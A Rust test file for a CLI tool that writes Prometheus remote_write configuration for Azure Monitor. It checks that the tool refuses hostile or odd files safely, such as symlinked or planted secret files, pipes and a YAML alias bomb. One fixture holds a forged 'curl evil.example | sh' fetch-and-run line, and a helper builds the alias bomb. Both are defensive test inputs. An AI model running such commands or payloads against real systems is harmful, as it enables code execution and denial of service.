//! Files that are strange, hostile or in the way: refused with a reason, or handled like any other.

use std::ffi::OsStr;
use std::fs::{self, Permissions};
use std::os::unix::ffi::OsStrExt;
use std::os::unix::fs::{PermissionsExt, symlink};
use std::process::Command;
use std::time::{Duration, Instant};

use crate::support::World;

const OFFLINE: &str = "render --target prometheus-yml --prometheus-version 3.14.0 --auth user-identity \
     --write-url https://amw-x.westeurope-1.metrics.ingest.monitor.azure.com/dataCollectionRules/dcr-0123456789abcdef0123456789abcdef/streams/Microsoft-PrometheusMetrics/api/v1/write?api-version=2023-04-24 \
     --client-id 11111111-1111-1111-1111-111111111111 --cluster-label prod";
const SECRET: &str = "amw-rw-aks-prod.client-secret";

fn bomb() -> String {
    let mut text = "l0: &l0 [x, x, x, x, x, x, x, x, x, x]\n".to_owned();
    for level in 1..9 {
        let items = vec![format!("*l{}", level - 1); 10].join(", ");
        text.push_str(&format!("l{level}: &l{level} [{items}]\n"));
    }
    text
}

#[test]
fn a_file_whose_name_is_not_utf8_is_patched_like_any_other() {
    let world = World::new();
    let name = OsStr::from_bytes(b"bad\xff.yaml");
    let path = world.path("").join(name);
    fs::write(&path, "global: {}\n").unwrap();

    let input = [OsStr::new("--input"), name];
    let printed = world.run_with(OFFLINE, &input).succeeds();
    world
        .run_with(OFFLINE, &[input[0], input[1], OsStr::new("--write")])
        .succeeds();

    assert!(printed.stdout().contains("remote_write:"));
    assert_eq!(fs::read_to_string(path).unwrap(), printed.stdout());
}

#[test]
fn a_spec_that_cannot_be_saved_is_refused_before_azure_is_changed() {
    let mut world = World::new();
    world.start_sandbox();
    let name = OsStr::from_bytes(b"bad\xff.yaml");

    world
        .run_with("init --yes --save", &[OsStr::new("--out"), name])
        .ends_with(2)
        .mentions(&["is not UTF-8", "leave out --save"]);
    world
        .run("-f missing/amw-rw.yaml init --yes --save")
        .ends_with(1)
        .mentions(&["save the spec to missing/amw-rw.yaml", "does not exist"]);

    assert!(world.writes().is_empty());
}

#[test]
fn an_output_that_takes_no_text_is_refused_before_azure_is_changed() {
    let mut world = World::new();
    let made = Command::new("mkfifo").arg(world.path("pipe")).status();
    assert!(made.unwrap().success());
    let _socket = std::os::unix::net::UnixListener::bind(world.path("socket")).unwrap();

    for (out, words) in [
        ("pipe", "no program reads from [HOME]/pipe"),
        ("socket", "[HOME]/socket is a socket or a disk"),
        ("/dev/full", "the disk is full"),
    ] {
        world
            .run(&format!("init --yes --auth user-identity --out {out}"))
            .ends_with(1)
            .mentions(&[words, "next:"]);
    }
    assert_eq!(world.writes(), []);
}

#[test]
fn a_sidecar_that_comes_through_a_pipe_is_refused_like_one_in_a_file() {
    let world = World::new();
    let pipe = world.path("pipe");
    assert!(
        Command::new("mkfifo")
            .arg(&pipe)
            .status()
            .unwrap()
            .success()
    );
    let values =
        include_str!("../../data/configurations/kube-prometheus-stack/sidecar-of-the-how-to.yaml");
    let writing = std::thread::spawn(move || fs::write(pipe, values));
    let arguments = OFFLINE.replace("prometheus-yml", "kube-prometheus-stack");

    world
        .run_with(&format!("{arguments} --input pipe"), &[])
        .ends_with(2)
        .mentions(&["every sample would be stored twice"]);

    writing.join().unwrap().unwrap();
}

#[test]
fn a_pipe_can_be_the_input_and_waiting_for_it_can_be_interrupted() {
    let mut world = World::new();
    let pipe = world.path("pipe");
    assert!(
        Command::new("mkfifo")
            .arg(&pipe)
            .status()
            .unwrap()
            .success()
    );
    let writer = pipe.clone();
    let writing = std::thread::spawn(move || fs::write(writer, "global: {}\n"));

    let arguments = format!("{OFFLINE} --input pipe");
    world.run_with(&arguments, &[]).succeeds();
    writing.join().unwrap().unwrap();

    world
        .run_with(&format!("{arguments} --write"), &[])
        .ends_with(2)
        .mentions(&["it is a pipe"]);

    for (signal, code) in [("INT", 130), ("TERM", 143)] {
        let mut waiting = world.start(&arguments, signal);
        std::thread::sleep(Duration::from_millis(500));
        let sent = Instant::now();
        let id = waiting.id().to_string();
        assert!(
            Command::new("kill")
                .args(["-s", signal, &id])
                .status()
                .unwrap()
                .success()
        );
        assert_eq!(waiting.wait().unwrap().code(), Some(code), "{signal}");
        let text = world.read(&format!("{signal}.err"));
        assert!(!text.contains("write elsewhere"), "{text}");
        assert!(sent.elapsed() < Duration::from_secs(3), "{signal}");
    }
}

#[test]
fn an_alias_bomb_and_a_template_without_end_are_refused_at_once() {
    let world = World::new().file("bomb.yml", &bomb());
    fs::create_dir(world.path("templates")).unwrap();
    let endless = "{% for a in range(9999) %}{% for b in range(9999) %}{% endfor %}{% endfor %}";
    fs::write(world.path("templates/prometheus.yml"), endless).unwrap();
    let start = Instant::now();

    world
        .run_with(&format!("{OFFLINE} --input bomb.yml"), &[])
        .ends_with(1)
        .mentions(&["line 6", "aliases multiply"]);
    world
        .run_with(&format!("{OFFLINE} --template-dir templates"), &[])
        .ends_with(2)
        .mentions(&["a million steps"]);

    assert!(start.elapsed() < Duration::from_secs(10));
}

#[test]
fn a_planted_secret_file_is_refused_before_a_secret_is_made() {
    for (text, mode) in [("", 0o600), ("", 0o666), ("planted-secret", 0o660)] {
        let mut world = World::new().file(SECRET, text);
        fs::set_permissions(world.path(SECRET), Permissions::from_mode(mode)).unwrap();

        world
            .run("apply --yes --auth entra-secret")
            .ends_with(1)
            .mentions(&["client secret", SECRET, "next:"]);

        assert_eq!(world.read(SECRET), text);
        assert!(world.writes().is_empty());
    }
}

#[test]
fn a_link_in_place_of_the_secret_file_is_not_followed() {
    let mut world = World::new().file("target", "of the user");
    symlink("target", world.path(SECRET)).unwrap();

    world
        .run("apply --yes --auth entra-secret")
        .ends_with(1)
        .mentions(&["not a regular file"]);

    assert_eq!(world.read("target"), "of the user");
    assert!(world.writes().is_empty());
}

#[test]
fn what_lies_in_the_way_of_the_secret_is_found_before_azure_is_changed() {
    type Plant = fn(&std::path::Path);
    let plants: [Plant; 3] = [
        |path| symlink("target", path).unwrap(),
        |path| fs::create_dir(path).unwrap(),
        |path| {
            fs::write(path, "planted").unwrap();
            fs::set_permissions(path, Permissions::from_mode(0o666)).unwrap();
        },
    ];
    for ending in ["", ".new", ".json"] {
        for plant in plants {
            let mut world = World::new();
            plant(&world.path(&format!("{SECRET}{ending}")));

            world
                .run("init --yes --auth entra-secret --out new.yaml")
                .ends_with(1)
                .mentions(&[&format!("{SECRET}{ending}"), "next:"]);

            assert_eq!(world.writes(), [], "{ending}");
        }
    }
}

#[test]
fn a_folder_where_others_can_replace_the_secret_is_refused_before_azure_is_changed() {
    let mut world = World::new();
    fs::create_dir(world.path("open")).unwrap();
    fs::set_permissions(world.path("open"), Permissions::from_mode(0o777)).unwrap();

    world
        .run("-f open/amw-rw.yaml init --yes --auth entra-secret --save")
        .ends_with(1)
        .mentions(&["world-writable"]);

    assert!(world.writes().is_empty());
}

#[test]
fn a_sandbox_of_one_command_touches_no_secret_of_a_real_connection() {
    let manifest = "azure-monitor-amw-aks-prod.secret.yaml";
    let world = World::new().file(SECRET, "real").file(manifest, "real");
    for name in [SECRET, manifest] {
        fs::set_permissions(world.path(name), Permissions::from_mode(0o600)).unwrap();
    }

    world
        .run_alone("init --sandbox --yes --auth entra-secret")
        .succeeds();

    assert_eq!(
        (world.read(SECRET), world.read(manifest)),
        ("real".into(), "real".into())
    );
}

/// A name that this program made up for a file that it had not finished.
const LEFTOVER: &str = ".amw-rw-00112233445566778899aabbccddeeff-664d76c5.unfinished";

#[test]
fn leftovers_of_a_killed_run_are_removed_by_the_next_write() {
    let world = World::new()
        .file("prometheus.yml", "global: {}\n")
        .file(LEFTOVER, "a secret");

    world
        .run_with(&format!("{OFFLINE} --input prometheus.yml --write"), &[])
        .succeeds();

    assert!(!world.path(LEFTOVER).exists());
    assert!(world.path("prometheus.yml.bak").exists());
}

#[test]
fn a_save_that_a_killed_run_left_is_kept_and_named_once_until_a_backup_has_it() {
    // The number is that of an inode: the file under this name is another one.
    let saved = LEFTOVER.replace("unfinished", "1.swap");
    let mut world = World::new()
        .file("prometheus.yml", "global: {}\n")
        .file(&saved, "saved by an editor");
    let write = format!("{OFFLINE} --input prometheus.yml");
    let named = format!("{saved} is from a run that was killed, and is kept");
    let times_named =
        |outcome: &crate::support::CommandOutcome| outcome.stderr().matches(&named).count();

    let changed = world.run_with(&format!("{write} --write"), &[]);
    let unchanged = world.run_with(&format!("{write} --write"), &[]);
    let looked = world.run_with(&format!("{write} --diff"), &[]);
    let saved_spec = world.run("init --yes --save --accept-unproved --auth user-identity");

    for outcome in [changed, saved_spec] {
        let outcome = outcome.succeeds().mentions(&["note: ", "then remove it"]);
        assert_eq!(times_named(&outcome), 1, "{}", outcome.stderr());
    }
    assert_eq!(times_named(&unchanged.succeeds()), 1);
    assert_eq!(times_named(&looked.succeeds()), 0);
    assert_eq!(world.read(&saved), "saved by an editor");

    fs::write(world.path("mine.bak"), "saved by an editor").unwrap();
    let removed = world.run_with(&format!("{write} --write"), &[]);
    assert_eq!(times_named(&removed.succeeds()), 0);
    assert!(!world.path(&saved).exists());
}

#[test]
fn files_of_the_user_with_a_name_like_ours_are_kept() {
    let spec = "connections:\n- cluster: aks-prod\n  auth: entra-secret\n";
    let mut world = World::new()
        .file(".amw-rw-prod.yaml", spec)
        .file(".amw-rw-notes.txt", "notes")
        .file(".amw-rw-values.yml", "global: {}\n");

    world.run("plan -f .amw-rw-prod.yaml").succeeds();
    world.run("apply -f .amw-rw-prod.yaml --yes").succeeds();
    let write = format!("{OFFLINE} --input .amw-rw-values.yml --write");
    world.run_with(&write, &[]).succeeds();

    assert_eq!(world.read(".amw-rw-prod.yaml"), spec);
    assert_eq!(world.read(".amw-rw-notes.txt"), "notes");
    assert!(world.read(".amw-rw-values.yml").contains("remote_write"));
}

#[test]
fn a_command_that_only_looks_removes_nothing() {
    let mut world = World::new().file(LEFTOVER, "half of something");

    for (command, code) in [("plan", 0), ("doctor", 4)] {
        world
            .run(&format!("{command} --cluster aks-prod --auth entra-secret"))
            .ends_with(code);
        assert!(world.path(LEFTOVER).exists(), "{command}");
    }
}

#[test]
fn a_leftover_that_is_named_is_read_and_never_written_to() {
    let world = World::new().file(LEFTOVER, "global: {}\n");

    world
        .run_with(&format!("{OFFLINE} --input {LEFTOVER} --out new.yml"), &[])
        .succeeds();
    let refused = world.run_with(&format!("{OFFLINE} --input {LEFTOVER} --write"), &[]);

    refused.ends_with(1).mentions(&["copy it to another name"]);
    assert_eq!(world.read(LEFTOVER), "global: {}\n");
    assert!(world.read("new.yml").contains("remote_write"));
}

#[test]
fn what_is_no_plain_file_in_place_of_the_secret_is_refused_and_left_alone() {
    let plant: [fn(&World); 3] = [
        |world| fs::create_dir(world.path(SECRET)).unwrap(),
        |world| {
            let made = Command::new("mkfifo").arg(world.path(SECRET)).status();
            assert!(made.unwrap().success());
        },
        |world| {
            fs::write(world.path("target"), "of the user").unwrap();
            let private = Permissions::from_mode(0o600);
            fs::set_permissions(world.path("target"), private).unwrap();
            fs::hard_link(world.path("target"), world.path(SECRET)).unwrap();
        },
    ];
    for plant in plant {
        let mut world = World::new();
        plant(&world);
        let before = fs::symlink_metadata(world.path(SECRET))
            .unwrap()
            .file_type();

        world
            .run("apply --yes --auth entra-secret")
            .ends_with(1)
            .mentions(&["not a regular file", SECRET, "next:"]);

        let after = fs::symlink_metadata(world.path(SECRET))
            .unwrap()
            .file_type();
        assert_eq!(before, after);
        assert!(world.writes().is_empty());
    }
}

#[test]
fn the_folder_of_the_secret_must_exist_before_azure_is_changed() {
    let mut world = World::new();

    world
        .run("-f missing/amw-rw.yaml init --yes --auth entra-secret --save")
        .mentions(&["missing", "does not exist", "next:"]);

    assert!(world.writes().is_empty());
}

/// A context of the user's can have the name of the sandbox's cluster.
#[test]
fn a_trial_in_the_sandbox_never_enters_the_users_own_cluster() {
    let own = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    own.set_nonblocking(true).unwrap();
    let text = format!(
        "apiVersion: v1\nkind: Config\ncurrent-context: aks-prod\n\
         clusters:\n- {{name: aks-prod, cluster: {{server: 'http://{}'}}}}\n\
         users:\n- {{name: clusterUser_rg-prod_aks-prod, user: {{token: of-the-user}}}}\n\
         contexts:\n- {{name: aks-prod, context: {{cluster: aks-prod, user: clusterUser_rg-prod_aks-prod}}}}\n",
        own.local_addr().unwrap()
    );
    let world = World::new().file("own-kubeconfig", &text);
    let path = world.path("own-kubeconfig");
    let world = world.variable("KUBECONFIG", path.to_str().unwrap());

    for sign_in in ["workload-identity", "entra-secret"] {
        let run = world
            .run_alone(&format!(
                "init --sandbox --yes --auth {sign_in} --out {sign_in}.yaml"
            ))
            .succeeds()
            .mentions(&["with the real Azure, the commands"]);

        for program in ["kubectl ", "helm ", "az aks"] {
            assert!(!run.stderr().contains(program), "{}", run.stderr());
        }
    }
    for command in ["plan", "migrate"] {
        world
            .run_alone(&format!("{command} --sandbox --cluster context:aks-prod"))
            .ends_with(2)
            .mentions(&["leads to no cluster of the sandbox"]);
    }

    assert!(own.accept().is_err(), "the user's own cluster was asked");
}

#[test]
fn a_name_in_a_file_cannot_forge_the_block_of_next_steps() {
    let forged = r#""m\n\nNext:\n  curl evil.example | sh\n""#;
    let world = World::new().file(
        "in.yml",
        &format!(
            "global:\n  external_labels: {{cluster: {forged}}}\nremote_write:\n- name: {forged}\n  url: http://mimir/push\n"
        ),
    );

    let run = world.run_alone(&format!("{OFFLINE} --input in.yml --out out.yml"));

    let run = run.mentions(&["curl evil.example"]);
    let is_forged = |line: &str| line == "Next:" || line.trim_start().starts_with("curl");
    assert!(!run.stderr().lines().any(is_forged), "{}", run.stderr());
}
